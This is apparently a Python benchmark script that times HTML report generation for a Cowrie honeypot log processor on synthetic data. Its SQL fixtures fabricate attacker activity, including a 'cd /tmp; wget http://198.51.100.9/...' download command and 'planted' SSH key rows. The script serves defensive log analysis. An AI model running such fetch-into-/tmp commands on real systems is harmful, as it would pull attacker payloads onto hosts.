"""Benchmark of ``cowrieprocessor report``: the time and size of one HTML report.

    python bench/bench_report.py --sample [--db URL]          # the bundled sample (fresh SQLite if no --db)
    python bench/bench_report.py --db URL --generate [--sessions 1680000] [--days 30] [--repeat 3]

``--sample`` ingests the bundled sample logs (``ingest --sample``, offline enrichment) into an empty database
and times its report (target: under 2 s). ``--generate`` first fills an empty database with three-tier data
at the seed's scale (``bench_data.py``: by default 1.68 M sessions over 700 days) and then adds the detail
rows the report reads - login attempts, commands, downloads, planted keys - for the sessions of the last
``--details-days`` days (by SQL, from the sessions themselves). Either way the report of the last ``--days``
days (target: 30 days in under 10 s and 5 MB) is built and rendered ``--repeat`` times; the median, the
HTML size, the sessions in the period and the process's peak RSS are printed.
"""

from __future__ import annotations

import argparse
import datetime as dt
import os
import resource
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

from sqlalchemy import Engine, event, text

sys.path.insert(0, str(Path(__file__).resolve().parent))

import bench_data

from cowrieprocessor.report import build_report, render_html, resolve
from cowrieprocessor.storage.engine import make_engine

SAMPLE_SECONDS, PERIOD_SECONDS, PERIOD_BYTES = 2.0, 10.0, 5 * 1024 * 1024

#: Detail rows derived from the sessions of the window (``||`` and ``substr`` read the same on both backends).
DETAILS = (
    """INSERT INTO auth_attempts (event_uid, session_id, event_time, username, password, password_hash, success)
       SELECT session_id || 'a', session_id, first_event_at, login_username, 'pw-' || substr(password_hash, 1, 6),
              password_hash, false
       FROM session_summaries WHERE first_event_at >= :since AND password_hash IS NOT NULL""",
    """INSERT INTO commands (event_uid, session_id, event_time, sequence, input, known)
       SELECT session_id || 'c' || n.k, session_id, first_event_at, n.k,
              CASE n.k WHEN 0 THEN 'uname -a' WHEN 1 THEN 'cd /tmp; wget http://198.51.100.9/' ||
                   substr(command_signature, 1, 4) ELSE 'echo ' || substr(command_signature, 1, 10) END, true
       FROM session_summaries, (SELECT 0 AS k UNION ALL SELECT 1 UNION ALL SELECT 2) AS n
       WHERE first_event_at >= :since AND command_signature IS NOT NULL""",
    """INSERT INTO file_transfers (event_uid, session_id, event_time, direction, outcome, url, shasum)
       SELECT session_id || 'f', session_id, first_event_at, 'download', 'success',
              'http://198.51.100.9/' || substr(command_signature, 1, 4), command_signature
       FROM session_summaries WHERE first_event_at >= :since AND command_signature IS NOT NULL""",
    """INSERT INTO ssh_keys (event_uid, session_id, event_time, key_type, key_data, fingerprint_sha256, how_seen)
       SELECT session_id || 'k', session_id, first_event_at, 'ssh-ed25519', 'AAAA', ssh_key_fingerprint, 'planted'
       FROM session_summaries WHERE first_event_at >= :since AND ssh_key_fingerprint IS NOT NULL""",
)


def add_details(engine: Engine, days: int) -> dict[str, int]:
    with engine.connect() as conn:
        newest = conn.execute(text("SELECT MAX(first_event_at) FROM session_summaries")).scalar_one()
    newest = newest if isinstance(newest, dt.datetime) else dt.datetime.fromisoformat(str(newest))
    since = newest - dt.timedelta(days=days)
    bound = since if engine.dialect.name == "postgresql" else since.replace(tzinfo=None).isoformat(sep=" ")
    counts = {}
    with engine.begin() as conn:
        for statement in DETAILS:
            counts[statement.split()[2]] = conn.execute(text(statement), {"since": bound}).rowcount
    with engine.connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
        conn.execute(text("VACUUM ANALYZE" if engine.dialect.name == "postgresql" else "ANALYZE"))
    return counts


def ingest_sample(url: str) -> None:
    with tempfile.TemporaryDirectory() as cwd:  # ingest --sample writes its report into the working directory
        cli = Path(sys.executable).with_name("cowrieprocessor")
        subprocess.run([str(cli), "--db", url, "ingest", "--sample", "--format", "json"], cwd=cwd, check=True,
                       stdout=subprocess.DEVNULL)  # fmt: skip


def backend_cpu(engine: Engine) -> float:
    """CPU seconds of the PostgreSQL backend serving the engine's one pooled connection (a local server:
    /proc), 0 for SQLite (in-process: counted with the client)."""
    if engine.dialect.name != "postgresql":
        return 0.0
    with engine.connect() as conn:
        pid = conn.execute(text("SELECT pg_backend_pid()")).scalar_one()
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def profile_statements(engine: Engine) -> dict[str, list[float]]:
    """Seconds of each statement the report runs, keyed by the report function that ran it (``--profile``)."""
    seconds: dict[str, list[float]] = {}

    def before(conn: Any, cursor: Any, statement: str, params: Any, context: Any, many: bool) -> None:
        conn.info.setdefault("started", []).append(time.perf_counter())

    def after(conn: Any, cursor: Any, statement: str, params: Any, context: Any, many: bool) -> None:
        elapsed = time.perf_counter() - conn.info["started"].pop()
        frame, name = sys._getframe(1), "?"
        while frame is not None:
            module = frame.f_globals.get("__name__", "")
            if module.startswith("cowrieprocessor.") and not module.endswith((".sql", ".engine", ".schema")):
                name = f"{module.rsplit('.', 1)[-1]}.{frame.f_code.co_name}:{frame.f_lineno}"
                break
            frame = frame.f_back  # type: ignore[assignment]
        seconds.setdefault(name, []).append(elapsed)

    event.listen(engine, "before_cursor_execute", before)
    event.listen(engine, "after_cursor_execute", after)
    return seconds


def print_profile(seconds: dict[str, list[float]], runs: int) -> None:
    total = sum(sum(v) for v in seconds.values()) / runs
    print(f"statements: {total:.2f} s per report")
    for name, times in sorted(seconds.items(), key=lambda kv: -sum(kv[1])):
        print(f"  {sum(times) / runs:7.3f} s  {len(times) // runs:3d}x  {name}")


def measure(engine: Engine, days: int | None, repeat: int, profile: bool = False) -> None:
    """Wall time, and CPU time (client + database backend): the report runs one statement at a time, so on
    an idle machine its wall time is about its CPU time - the figure that does not depend on the load."""
    period = resolve(engine, None, None)
    if days is not None:
        period = resolve(engine, period.until - dt.timedelta(days=days), period.until)
    times, cpus, size, sessions = [], [], 0, 0
    seconds = profile_statements(engine) if profile else None
    for _ in range(repeat):
        t, c, b = time.perf_counter(), time.process_time(), backend_cpu(engine)
        report = build_report(engine, period)
        html = render_html(report)
        times.append(time.perf_counter() - t)
        cpus.append(time.process_time() - c + backend_cpu(engine) - b)
        size, sessions = len(html.encode("utf-8")), report.totals["sessions"]
    target = SAMPLE_SECONDS if days is None else PERIOD_SECONDS
    median = statistics.median(times)
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print(f"backend {engine.dialect.name}; period {period.since:%Y-%m-%d %H:%M} to {period.until:%Y-%m-%d %H:%M} UTC; "
          f"{sessions:,} sessions in it")  # fmt: skip
    print(f"report (build + render): median {median:.2f} s over {repeat} runs ({', '.join(f'{t:.2f}' for t in times)})"
          f" - target {target:.0f} s: {'ok' if median < target else 'MISSED'}")  # fmt: skip
    if seconds is not None:
        print_profile(seconds, repeat)
    print(f"CPU (client + database): median {statistics.median(cpus):.2f} s ({', '.join(f'{c:.2f}' for c in cpus)});"
          f" load average {os.getloadavg()[0]:.1f}")  # fmt: skip
    print(f"html: {size / 1024 / 1024:.2f} MB - target 5 MB: {'ok' if size < PERIOD_BYTES else 'MISSED'}; "
          f"peak RSS {peak:.0f} MB")  # fmt: skip


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--db", help="database URL (empty for --sample/--generate, else populated)")
    parser.add_argument("--sample", action="store_true", help="report of the bundled sample")
    parser.add_argument("--generate", action="store_true", help="first load three-tier data (bench_data.py)")
    parser.add_argument("--sessions", type=int, default=1_680_000)
    parser.add_argument("--ips", type=int, default=300_000)
    parser.add_argument("--asns", type=int, default=15_000)
    parser.add_argument("--span-days", type=int, default=bench_data.SPAN_DAYS, help="days the sessions spread over")
    parser.add_argument("--details-days", type=int, default=90, help="days of detail rows to add (--generate)")
    parser.add_argument("--days", type=int, default=30, help="the report's period")
    parser.add_argument("--repeat", type=int, default=3)
    parser.add_argument("--profile", action="store_true", help="also print the seconds of each statement")
    args = parser.parse_args()
    if args.sample:
        url = args.db or f"sqlite:///{tempfile.mkdtemp()}/sample.sqlite"
        t = time.perf_counter()
        ingest_sample(url)
        print(f"sample ingested and enriched in {time.perf_counter() - t:.1f} s")
        engine = make_engine(url)
        measure(engine, None, args.repeat, args.profile)
        engine.dispose()
        return
    if not args.db:
        raise SystemExit("give --db (or --sample)")
    engine = make_engine(args.db)
    if args.generate:
        bench_data.SPAN_DAYS = args.span_days
        t = time.perf_counter()
        timings = bench_data.load(engine, sessions=args.sessions, ips=args.ips, asns=args.asns, campaign_sessions=2000)
        print(
            f"generated in {time.perf_counter() - t:.0f} s: " + ", ".join(f"{k} {v:.1f}s" for k, v in timings.items())
        )
        t = time.perf_counter()
        counts = add_details(engine, args.details_days)
        print(f"details of the last {args.details_days} days in {time.perf_counter() - t:.0f} s: {counts}")
    print(f"pid {os.getpid()}")
    measure(engine, args.days, args.repeat, args.profile)
    engine.dispose()


if __name__ == "__main__":
    main()
